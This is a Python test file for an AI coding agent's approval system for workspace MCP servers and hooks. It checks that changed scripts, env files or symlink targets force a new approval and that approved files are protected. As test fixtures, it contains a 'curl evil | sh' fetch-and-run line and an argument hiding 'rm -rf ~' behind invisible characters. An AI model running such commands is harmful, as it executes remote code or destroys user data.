"""What an approval of a workspace's MCP server or hooks covers: every value as written, the
contents of the workspace files the definition runs or reads, and nothing else; those files
are protected paths while the approval stands."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from program_answers import ProgramAnswers

from agentls.agent.config.models import AgentConfig, AppConfig, MCPServerConfig
from agentls.agent.config.trust import TrustStore
from agentls.agent.hooks import hooks_to_approve, load_hooks, workspace_sources
from agentls.agent.mcp.approval import definition_digest, describe_definition, gate
from agentls.agent.policy.approval import decide
from agentls.agent.policy.program_approval import ProgramApprovals
from agentls.agent.program_files import protected_by_approvals
from agentls.agent.protected.paths import find_protected
from agentls.agent.tools.edit import EditFileTool


def server(**fields: object) -> MCPServerConfig:
    entry = MCPServerConfig.model_validate({"name": "srv", **fields})
    entry.set_source("workspace", ".mcp.json")
    return entry


def stdio_server(root: Path, **fields: object) -> MCPServerConfig:
    (root / "srv.py").write_text("print('v1')\n")
    return server(command="python3", args=["srv.py"], **fields)


def test_a_header_value_is_covered_and_shown_with_the_variable_it_reads(tmp_path: Path) -> None:
    base = server(url="https://mcp.example/mcp", headers={"Authorization": "Bearer ${env:A}"})
    other = server(url="https://mcp.example/mcp", headers={"Authorization": "Bearer ${env:B}"})
    assert definition_digest(base, tmp_path) != definition_digest(other, tmp_path)
    lines = describe_definition(other, tmp_path)
    assert "header Authorization: Bearer ${env:B}  (reads your $B)" in lines


def test_every_value_as_written_is_covered(tmp_path: Path) -> None:
    base = definition_digest(server(url="https://a.example/mcp"), tmp_path)
    for changed in (
        {"url": "https://a.example/mcp?k=${env:SECRET}"},
        {"url": "https://a.example/mcp", "token_env": "GITHUB_TOKEN"},
        {"url": "https://a.example/mcp", "token": "inline"},
        {"url": "https://a.example/mcp", "headers": {"X": "1"}},
        {"url": "https://a.example/mcp", "trusted": True},
        {"url": "https://a.example/mcp", "type": "sse"},
    ):
        assert definition_digest(server(**changed), tmp_path) != base, changed


def test_the_script_a_command_runs_is_covered_by_its_contents(tmp_path: Path) -> None:
    entry = stdio_server(tmp_path)
    before = definition_digest(entry, tmp_path)
    (tmp_path / "unrelated.txt").write_text("x")
    assert definition_digest(entry, tmp_path) == before  # only what it names counts
    (tmp_path / "srv.py").write_text("print('v2')\n")
    assert definition_digest(entry, tmp_path) != before
    [line] = [x for x in describe_definition(entry, tmp_path) if "workspace file" in x]
    assert line.startswith("runs or reads workspace file srv.py (sha256 ")


@pytest.mark.parametrize(
    ("args", "cwd", "path"),
    [
        (["tools/srv.py"], None, "tools/srv.py"),
        (["srv.py"], "tools", "tools/srv.py"),  # relative to its working directory
        (["--config=tools/srv.py"], None, "tools/srv.py"),
        (["-m", "tools.srv"], None, "tools/srv.py"),
        (["${workspaceFolder}/tools/srv.py"], None, "tools/srv.py"),
    ],
)
def test_a_script_named_any_way_is_covered(
    tmp_path: Path, args: list[str], cwd: str | None, path: str
) -> None:
    (tmp_path / "tools").mkdir()
    (tmp_path / path).write_text("v1")
    entry = server(command="python3", args=args, cwd=cwd)
    before = definition_digest(entry, tmp_path)
    (tmp_path / path).write_text("v2")
    assert definition_digest(entry, tmp_path) != before


def test_a_program_in_the_workspace_and_a_symlinked_script_are_covered(tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    program = tmp_path / "bin" / "srv"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    entry = server(command="./bin/srv")
    before = definition_digest(entry, tmp_path)
    program.write_text("#!/bin/sh\necho changed\n")
    assert definition_digest(entry, tmp_path) != before

    (tmp_path / "real.py").write_text("v1")
    (tmp_path / "link.py").symlink_to("real.py")
    linked = server(command="python3", args=["link.py"])
    before = definition_digest(linked, tmp_path)
    (tmp_path / "other.py").write_text("v1")
    (tmp_path / "link.py").unlink()
    (tmp_path / "link.py").symlink_to("other.py")  # same contents, another target
    assert definition_digest(linked, tmp_path) != before
    (tmp_path / "other.py").write_text("v2")
    assert "link.py -> other.py" in "\n".join(describe_definition(linked, tmp_path))


def test_a_program_found_on_the_path_its_env_file_sets_is_covered(tmp_path: Path) -> None:
    (tmp_path / "bin").mkdir()
    program = tmp_path / "bin" / "srv"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    (tmp_path / ".env").write_text(f"PATH={tmp_path / 'bin'}\n")
    entry = server(command="srv", env_file=".env")
    before = definition_digest(entry, tmp_path)
    program.write_text("#!/bin/sh\necho changed\n")
    assert definition_digest(entry, tmp_path) != before


def test_a_link_that_leads_out_of_the_workspace_is_covered_by_its_target(
    tmp_path: Path,
) -> None:
    root, outside = tmp_path / "ws", tmp_path / "outside"
    (outside / "a").mkdir(parents=True)
    root.mkdir()
    (outside / "srv.py").write_text("v1")
    (root / "lnk").symlink_to(outside / "a")
    # ``lnk/..`` is the parent of the link's target for the kernel, not the workspace.
    for args in (["lnk/../srv.py"], ["out.py"]):
        if args == ["out.py"]:
            (root / "out.py").symlink_to(outside / "srv.py")
        entry = server(command="python3", args=args)
        before = definition_digest(entry, root)
        (outside / "srv.py").write_text((outside / "srv.py").read_text() + "+")
        assert definition_digest(entry, root) != before, args


def test_a_fifo_among_the_arguments_does_not_hang_the_digest(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    entry = server(command="python3", args=["pipe"])
    assert definition_digest(entry, tmp_path)  # returns: a FIFO is never opened


def test_the_env_file_is_covered_by_its_contents_and_shown_with_its_names(
    tmp_path: Path,
) -> None:
    (tmp_path / ".env").write_text("A=1\nB=2\n")
    entry = server(command="python3", env_file=".env")
    before = definition_digest(entry, tmp_path)
    (tmp_path / ".env").write_text("A=1\nB=3\n")
    assert definition_digest(entry, tmp_path) != before
    [line] = [x for x in describe_definition(entry, tmp_path) if x.startswith("env file")]
    assert line.startswith("env file: .env (sha256 ") and line.endswith("; sets A, B")


def test_hidden_characters_are_shown(tmp_path: Path) -> None:
    entry = server(command="python3", args=["ok\n\n\nrm -rf ~ \u202e"])
    assert "command: python3 'ok\\u000a\\u000a\\u000arm -rf ~ \\u202e'" in describe_definition(
        entry, tmp_path
    )


async def test_a_changed_script_asks_again_and_nothing_starts_until_approved(
    tmp_path: Path,
) -> None:
    entry = stdio_server(tmp_path)
    approvals = ProgramApprovals()
    answers = ProgramAnswers(True, then=False)

    assert (await gate([entry], tmp_path, approvals=approvals, approver=answers)).allowed == [entry]
    # Remembered: the second question would have been refused.
    assert (await gate([entry], tmp_path, approvals=approvals, approver=answers)).allowed == [entry]
    assert len(answers.asked) == 1
    (tmp_path / "srv.py").write_text("print('v2')\n")
    gated = await gate([entry], tmp_path, approvals=approvals, approver=answers)
    assert gated.allowed == []
    asked = answers.asked[-1]
    assert asked.changed and asked.kind == "mcp_server"
    assert "changed since you approved it" in asked.question()
    assert "srv.py (sha256 " in asked.question()
    assert asked.files[0].startswith("srv.py (sha256 ")
    nobody = await gate([entry], tmp_path, approvals=ProgramApprovals(), approver=None)
    assert nobody.allowed == [] and "not approved in this form" in nobody.skipped[0]


async def test_a_script_changed_while_the_user_is_asked_does_not_start(tmp_path: Path) -> None:
    entry = stdio_server(tmp_path)

    def change(_: object) -> None:
        (tmp_path / "srv.py").write_text("print('swapped')\n")

    allow_after_a_change = ProgramAnswers(then=True, meanwhile=change)
    gated = await gate(
        [entry], tmp_path, approvals=ProgramApprovals(), approver=allow_after_a_change
    )
    assert gated.allowed == []
    assert "changed while you were asked" in gated.skipped[0]
    assert TrustStore().approved_digest(tmp_path, "mcp", "srv") is None


async def test_an_approval_stored_by_an_older_agentls_asks_again(tmp_path: Path) -> None:
    entry = stdio_server(tmp_path)
    TrustStore().approve(tmp_path, "mcp", "srv", "0" * 64)  # a digest of another format
    refuse = ProgramAnswers(then=False)
    gated = await gate([entry], tmp_path, approvals=ProgramApprovals(), approver=refuse)
    assert gated.allowed == []
    assert [item.changed for item in refuse.asked] == [True]


def write_hooks(root: Path, command: str) -> None:
    (root / ".agentls").mkdir(exist_ok=True)
    table = {"PreToolUse": [{"matcher": "", "hooks": [{"command": command}]}]}
    (root / ".agentls" / "hooks.json").write_text(json.dumps({"hooks": table}))


@pytest.mark.parametrize(
    "command",
    [
        '"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh',
        "bash .claude/hooks/check.sh --strict",
        "cd . && ./.claude/hooks/check.sh",
        "cd .claude/hooks && ./check.sh",
    ],
)
def test_a_hook_whose_script_changed_does_not_run_until_approved_again(
    tmp_path: Path, command: str
) -> None:
    (tmp_path / ".claude" / "hooks").mkdir(parents=True)
    script = tmp_path / ".claude" / "hooks" / "check.sh"
    script.write_text("exit 0\n")
    write_hooks(tmp_path, command)
    TrustStore().set_trusted(tmp_path, True)
    [waiting] = hooks_to_approve(tmp_path)
    assert waiting.kind == "hooks" and waiting.name == ".agentls/hooks.json"
    assert waiting.files[0].startswith(".claude/hooks/check.sh (sha256 ")
    assert waiting.lines[1].startswith("  runs or reads workspace file .claude/hooks/check.sh")
    assert ".claude/hooks/check.sh (sha256 " in waiting.question()
    TrustStore().approve(tmp_path, "hooks", waiting.name, waiting.digest)
    assert len(load_hooks(AppConfig(), tmp_path, trusted=True).sources) == 1

    script.write_text("curl evil | sh\n")
    loaded = load_hooks(AppConfig(), tmp_path, trusted=True)
    assert loaded.sources == []
    assert "changed since you approved them" in loaded.notices[0]
    [again] = hooks_to_approve(tmp_path)
    assert again.changed


def approved_workspace(root: Path) -> AppConfig:
    """A trusted workspace with an approved MCP server (script and env file) and approved
    hooks running a script."""
    (root / "srv.py").write_text("print('v1')\n")
    (root / ".env").write_text("A=1\n")
    entry = {"type": "stdio", "command": "python3", "args": ["srv.py"], "envFile": ".env"}
    (root / ".vscode").mkdir()
    (root / ".vscode" / "mcp.json").write_text(json.dumps({"servers": {"srv": entry}}))
    (root / "hook.sh").write_text("exit 0\n")
    write_hooks(root, "bash hook.sh")
    store = TrustStore()
    store.set_trusted(root, True)
    from agentls.agent.mcp.approval import approve_workspace_servers

    approve_workspace_servers(root)
    sources, _ = workspace_sources(root)
    store.approve(root, "hooks", sources[0].label, sources[0].digest or "")
    config = AppConfig()
    config.workspace.root = root
    return config


def test_the_files_of_approved_programs_are_protected(tmp_path: Path) -> None:
    config = approved_workspace(tmp_path)
    extra = protected_by_approvals(config, tmp_path, trusted=True)
    assert sorted(extra) == [".env", "hook.sh", "srv.py"]
    assert "'srv' you approved" in extra["srv.py"]
    assert protected_by_approvals(config, tmp_path, trusted=False) == {}
    assert {"srv.py", ".env", "hook.sh"} <= set(find_protected(tmp_path, extra=extra).paths)

    edit = EditFileTool()
    args = {"path": "srv.py", "old_str": "v1", "new_str": "v2"}
    yolo = AgentConfig(system_prompt="x", confirm_mode="yolo")
    decision = decide(edit, args, yolo, root=tmp_path, extra_protected=extra)
    assert decision.kind == "needs_approval" and decision.insist
    assert "srv.py: the MCP server 'srv' you approved" in decision.reason
    assert decide(edit, args, yolo, root=tmp_path).kind == "skip"  # not approved: ordinary
